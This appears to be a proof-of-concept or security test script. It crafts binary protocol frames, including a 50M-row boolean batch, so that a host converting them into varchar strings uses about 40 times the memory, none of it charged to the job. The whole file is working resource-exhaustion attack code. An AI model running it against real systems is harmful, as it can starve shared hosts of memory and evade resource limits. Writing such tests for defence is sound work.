# Attack: a BATCH of N bool rows costs N/8 bytes on the data plane (and against max_output), but with a
# caller's --result-schema "x varchar(10)" the host converts it row by row into a string column
# (4-byte offset + 1 byte per row) and re-encodes it: ~40x+ host memory per data-plane byte, none of it
# charged to the job.
import os, struct, sys
N = 48 << 20   # 50M rows -> 6 MiB frame
def wall(b):
    mv = memoryview(b)
    while mv:
        n = os.write(3, mv); mv = mv[n:]
def s(x): x = x.encode(); return struct.pack('<I', len(x)) + x
sch = struct.pack('<I', 1) + s('x') + bytes([1, 1, 0, 0])   # bool, nullable
wall(struct.pack('<IB', len(sch), 3) + sch)
bm = N // 8
head = struct.pack('<II', N, 2)
pos = 8 + 32   # 40, 8-aligned
table = struct.pack('<QQ', pos, 0) + struct.pack('<QQ', pos, bm)
body = head + table
wall(struct.pack('<IB', len(body) + bm, 4) + body + bytes(bm))
P = struct.pack('<I', 4) + struct.pack('<I', 0) + struct.pack('<II', 0, 0)
wall(struct.pack('<IB', len(P), 2) + P)
wall(struct.pack('<IB', 8, 5) + struct.pack('<Q', N))
sys.stdout.flush(); os._exit(0)
